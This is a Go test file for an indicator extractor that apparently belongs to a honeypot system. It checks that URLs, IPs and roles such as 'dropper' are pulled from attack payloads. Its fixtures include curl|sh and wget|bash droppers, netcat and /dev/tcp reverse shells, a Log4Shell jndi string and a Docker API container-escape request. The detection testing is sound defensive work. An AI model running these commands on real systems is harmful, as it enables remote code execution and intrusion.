package indicator

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"terroir"
	"terroir/payload/decode"
)

// text is what a list of indicators says, one "type value role step" a line.
func text(list []terroir.Indicator) string {
	var b strings.Builder
	for _, i := range list {
		fmt.Fprintf(&b, "%s %s %s %d\n", i.Type, i.Value, i.Role, i.Step)
	}
	return b.String()
}

func node(parent int, kind, bytes string) decode.Node {
	return decode.Node{Parent: parent, Kind: kind, Bytes: []byte(bytes)}
}

// The same indicator in several layers is one, at the deepest node, the earliest of those.
func TestTheDeepestEarliestNodeIsTheStep(t *testing.T) {
	tree := &decode.Tree{Nodes: []decode.Node{
		node(-1, "payload", "http://185.1.2.3/a"), node(0, "command", "http://185.1.2.3/a"), node(0, "shell", "x"),
		node(2, "command", "http://185.1.2.3/a"), node(2, "command", "http://185.1.2.3/a"),
	}}
	if got, want := text(Find(tree, nil, nil)), "ipv4 185.1.2.3  3\nurl http://185.1.2.3/a  3\n"; got != want {
		t.Errorf("got\n%swant\n%s", got, want)
	}
}

// A role that only the command line as a whole shows holds for what stands in its parts.
func TestRolesOfOtherLayersHold(t *testing.T) {
	line := node(0, "shell", "wget 'http://185.1.2.3/a' -qO- | sh")
	line.Runs = true
	tree := &decode.Tree{Nodes: []decode.Node{node(-1, "payload", ""), line, node(1, "command", "wget http://185.1.2.3/a -qO-")}}
	if got, want := text(Find(tree, nil, nil)), "ipv4 185.1.2.3 dropper 2\nurl http://185.1.2.3/a dropper 2\n"; got != want {
		t.Errorf("got\n%swant\n%s", got, want)
	}
}

// What stands in encoded text is believed only as it is decoded; its role holds all the same.
func TestEncodedTextIsNotBelieved(t *testing.T) {
	const raw = "GET /?c=wget%20http://185.1.2.3/a%20-O%20b HTTP/1.1"
	decoded := node(0, "percent", "wget http://185.1.2.3/a -O b")
	decoded.Offset, decoded.Length = 8, len("wget%20http://185.1.2.3/a%20-O%20b")
	tree := &decode.Tree{Nodes: []decode.Node{node(-1, "payload", raw), decoded}}
	if got, want := text(Find(tree, nil, nil)), "file b  1\nipv4 185.1.2.3 stage2 1\nurl http://185.1.2.3/a stage2 1\n"; got != want {
		t.Errorf("got\n%swant\n%s", got, want)
	}
}

func TestTheSensorIsLeftOut(t *testing.T) {
	payload := "GET http://Pot.Terroir-Sensor.net/ HTTP/1.1\r\nReferer: http://185.1.2.3:81/x\r\nX: 2a02:4780:b:1234::8\r\nOrigin: http://other-site.net\r\n\r\n"
	self := []netip.Addr{netip.MustParseAddr("::ffff:185.1.2.3"), netip.MustParseAddr("2a02:4780:b:1234::8")}
	if got, want := text(Find(alone([]byte(payload)), self, []string{"pot.terroir-sensor.net"})), "domain other-site.net  0\nurl http://other-site.net  0\n"; got != want {
		t.Errorf("got\n%swant\n%s", got, want)
	}
}

// Whatever stands around it, a command that fetches and runs names what it fetches.
func TestADropperIsFoundInAnyDress(t *testing.T) {
	fetch := []string{"curl %s|sh", "wget -qO- %s | bash", "sh -c \"$(curl -fsSL %s)\"", "bash <(curl -s %s)", "(curl %[1]s||wget -O- %[1]s)|sh", "wget %s/x -O /tmp/q;sh /tmp/q", "eval `curl %s`", "{ curl %s; } | sudo bash"}
	dress := []string{"%s", "sh -c '%s'", "cd /tmp; %s; rm x", "* * * * * root %s\n", "echo start && %s", "if true; then %s; fi"}
	rapid.Check(t, func(t *rapid.T) {
		url := fmt.Sprintf("http://%d.%d.7.9/%s", rapid.IntRange(50, 99).Draw(t, "a"), rapid.IntRange(1, 250).Draw(t, "b"), rapid.StringMatching(`[a-z0-9]{1,8}(\.sh)?`).Draw(t, "path"))
		command := fmt.Sprintf(rapid.SampledFrom(fetch).Draw(t, "fetch"), url)
		line := fmt.Sprintf(rapid.SampledFrom(dress).Draw(t, "dress"), command)
		n := node(-1, "payload", line)
		n.Runs = true
		list := Find(&decode.Tree{Nodes: []decode.Node{n}}, nil, nil)
		if !slices.ContainsFunc(list, func(i terroir.Indicator) bool {
			return i.Type == "url" && strings.HasPrefix(i.Value, url) && i.Role == "dropper"
		}) {
			t.Fatalf("%s: %s", line, text(list))
		}
	})
}

// A special address is none, however it is dressed.
func TestSpecialAddressesAreLeftOut(t *testing.T) {
	nets := []string{"10.0.0.0/8", "127.0.0.0/8", "192.168.0.0/16", "100.64.0.0/10", "192.0.2.0/24", "198.18.0.0/15", "240.0.0.0/4", "224.0.0.0/4", "169.254.0.0/16"}
	rapid.Check(t, func(t *rapid.T) {
		p := netip.MustParsePrefix(rapid.SampledFrom(nets).Draw(t, "net"))
		a := p.Addr().As4()
		for i := range a {
			if low := p.Bits() - i*8; low < 8 {
				a[i] |= byte(rapid.IntRange(0, 255).Draw(t, "byte")) >> max(low, 0)
			}
		}
		addr := netip.AddrFrom4(a).String()
		for _, dress := range []string{"%s", "curl http://%s/x|sh", "${jndi:ldap://%s:1389/a}", "nc %s 4444 -e sh", "bash -i >& /dev/tcp/%s/1 0>&1", "slaveof %s 6379"} {
			if list := Find(alone([]byte(fmt.Sprintf(dress, addr))), nil, nil); slices.ContainsFunc(list, func(i terroir.Indicator) bool { return i.Type != "file" }) {
				t.Fatalf(dress+": %s", addr, text(list))
			}
		}
	})
}

func TestBoundsHold(t *testing.T) {
	var many strings.Builder
	for i := range 70000 {
		fmt.Fprintf(&many, "http://%d.%d.%d.7/ ", 50+i%40, i>>8&0xff, i&0xff)
	}
	long := "http://185.1.2.3/" + strings.Repeat("a", maxValue)
	nested := strings.Repeat(`sh -c "curl $(`, 5000)
	for _, s := range []string{many.String(), long, nested, strings.Repeat("(", 60000), strings.Repeat("'\"", 30000), strings.Repeat("http://", 9000), strings.Repeat("curl `", 9000),
		strings.Repeat("jndi:ldap:${", 5000), strings.Repeat("a@", 30000), strings.Repeat("1.", 30000), strings.Repeat("\\", 60000) + "'curl'", strings.Repeat("curl -o>", 8000), strings.Repeat("get(http://1.1.7.9/)", 3000), strings.Repeat("((a)>b;", 400) + strings.Repeat(")>c", 400),
		strings.Repeat("a@b.com ", 8000), strings.Repeat("x", 32000) + "://" + strings.Repeat("=", 32000)} {
		tree := alone([]byte(s))
		tree.Nodes[0].Runs = true
		for _, tree := range []*decode.Tree{alone([]byte(s)), tree} {
			list := Find(tree, nil, nil)
			if len(list) > maxFound {
				t.Errorf("%d indicators", len(list))
			}
			for _, i := range list {
				if len(i.Value) > maxValue {
					t.Errorf("a value of %d bytes", len(i.Value))
				}
			}
		}
	}
}

var types = []string{"ipv4", "ipv6", "url", "domain", "email", "md5", "sha1", "sha256", "file", "wallet", "ssh_key", "image"}

func FuzzFind(f *testing.F) {
	for _, l := range readLabelled(f) {
		f.Add(l.Payload, false)
		f.Add(l.Payload, true)
	}
	f.Fuzz(func(t *testing.T, b []byte, runs bool) {
		tree := alone(b)
		tree.Nodes[0].Runs = runs
		list := Find(tree, sensor.addrs, sensor.hosts)
		if again := Find(tree, sensor.addrs, sensor.hosts); !slices.Equal(again, list) {
			t.Errorf("twice: %s and %s", text(list), text(again))
		}
		for _, i := range list {
			if !slices.Contains(types, i.Type) || !slices.Contains(roles, i.Role) || i.Value == "" || len(i.Value) > maxValue || i.Step != 0 {
				t.Errorf("%+v", i)
			}
			for _, c := range []byte(i.Value) {
				if c <= ' ' || c == 0x7f {
					t.Errorf("%+v has %q", i, c)
				}
			}
		}
	})
}

// BenchmarkFind measures payloads of about 2 KiB: a request to Docker, and one full of commands.
func BenchmarkFind(b *testing.B) {
	const docker = "POST /v1.24/containers/create HTTP/1.1\r\nHost: 3.3.3.3:2375\r\nUser-Agent: Go-http-client/1.1\r\nContent-Type: application/json\r\n\r\n" +
		`{"Hostname":"","Domainname":"","User":"","AttachStdin":false,"Env":null,"Cmd":["chroot","/mnt/","/bin/sh","-c","curl http://185.1.2.3/cronb.sh|bash"],"Image":"alpine","HostConfig":{"Binds":["/:/mnt"]`
	var dense strings.Builder
	for _, l := range readLabelled(b) {
		if dense.Len() < 2048 && l.Source == "react2shell" && len(l.Indicators) > 2 {
			dense.Write(append(l.Payload, '\n'))
		}
	}
	sparse := docker + strings.Repeat(`,"ContainerIDFile":"","LogConfig":{"Type":"","Config":{}},"AutoRemove":false,"CpuShares":0`, 19) + "}}"
	for name, s := range map[string]string{"docker": sparse, "commands": dense.String()} {
		b.Run(name, func(b *testing.B) {
			tree := alone([]byte(s))
			b.SetBytes(int64(len(s)))
			for b.Loop() {
				Find(tree, sensor.addrs, sensor.hosts)
			}
		})
	}
}
